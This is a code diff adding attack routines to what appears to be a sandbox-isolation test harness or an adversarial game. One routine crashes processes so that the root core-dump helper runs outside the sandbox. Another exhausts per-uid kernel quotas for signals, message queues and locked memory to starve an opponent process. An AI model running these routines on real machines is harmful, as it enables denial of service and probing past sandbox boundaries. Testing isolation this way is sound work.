@@ -330,6 +330,79 @@ def uid_quotas():
     say(f"made {made} message queues")
 
 
+def core_helper():
+    """Crash so that the machine's core helper (kernel.core_pattern "|...": apport, systemd-coredump)
+    starts as root outside the sandbox, once per crash: first lift the core size limit of 1 byte,
+    the kernel's sign not to pipe a core (a limit of 0 it ignores for pipes)."""
+    import resource
+
+    say(f"core limit: {resource.getrlimit(resource.RLIMIT_CORE)}")
+    for name, lift in (
+        ("setrlimit", lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, 0))),
+        ("prlimit", lambda: resource.prlimit(0, resource.RLIMIT_CORE, (0, 0))),
+    ):
+        try:
+            lift()
+            say(f"{name}: lifted")
+        except (OSError, ValueError) as exc:  # Python reports EPERM from setrlimit as a ValueError
+            say(f"{name}: refused ({type(exc).__name__})")
+    for _ in range(3):
+        child = os.fork()
+        if child == 0:
+            os.kill(os.getpid(), signal.SIGSEGV)
+            os._exit(0)
+        os.waitpid(child, 0)
+    say("crashed 3 times")
+
+
+def _mq_open(libc, name, size):
+    class MqAttr(ctypes.Structure):
+        _fields_ = [(n, ctypes.c_long) for n in ("flags", "maxmsg", "msgsize", "curmsgs", "a", "b", "c", "d")]
+
+    return libc.mq_open(name.encode(), os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(MqAttr(0, 1, size, 0)))
+
+
+_IPC_PRIVATE, _IPC_CREAT, _SHM_LOCK = 0, 0o1000, 11
+
+
+def _shm_lock(libc, size):
+    """A shared memory segment of ``size`` bytes, locked in memory (SHM_LOCK): True if it could."""
+    segment = libc.shmget(_IPC_PRIVATE, ctypes.c_size_t(size), _IPC_CREAT | 0o600)
+    return segment >= 0 and libc.shmctl(segment, _SHM_LOCK, None) == 0
+
+
+def hold_quotas():
+    """Hold all the kernel lets it of what it counts per uid (the opponent is uid 0 too), for the
+    rest of the game: queued real-time signals, message queue bytes, locked shared memory."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    sig = signal.SIGRTMIN
+    signal.pthread_sigmask(signal.SIG_BLOCK, [sig])
+    queued = 0
+    while queued < 200_000 and libc.sigqueue(os.getpid(), sig, ctypes.c_void_p(0)) == 0:
+        queued += 1
+    queues = 0
+    while queues < 1000 and _mq_open(libc, f"/hold{queues}", 1024) >= 0:
+        queues += 1
+    locked = 0
+    while locked < 1000 and _shm_lock(libc, 64 << 10):
+        locked += 1
+    say(f"held {queued} signals, {queues} message queues, {locked} locked segments")
+
+
+def probe_quotas():
+    """What the opponent's holding left it: one queued signal, one small message queue, one locked
+    segment of shared memory."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    sig = signal.SIGRTMIN
+    signal.pthread_sigmask(signal.SIG_BLOCK, [sig])
+    results = {
+        "signal": libc.sigqueue(os.getpid(), sig, ctypes.c_void_p(0)) == 0,
+        "message queue": _mq_open(libc, "/probe", 64) >= 0,
+        "locked memory": _shm_lock(libc, 64 << 10),
+    }
+    say(", ".join(f"{name} {'ok' if ok else 'refused'}" for name, ok in results.items()))
+
+
 def machine_aio():
     """Take the machine's whole quota of asynchronous I/O events (fs.aio-max-nr, one for every
     process of the machine) in one io_setup."""
@@ -499,6 +572,9 @@ ATTACKS = {
     "machine_locks": machine_locks,
     "cgroups": cgroups,
     "machine_aio": machine_aio,
+    "core_helper": core_helper,
+    "hold_quotas": hold_quotas,
+    "probe_quotas": probe_quotas,
 }
 
 sys.stdin.readline()  # the start number
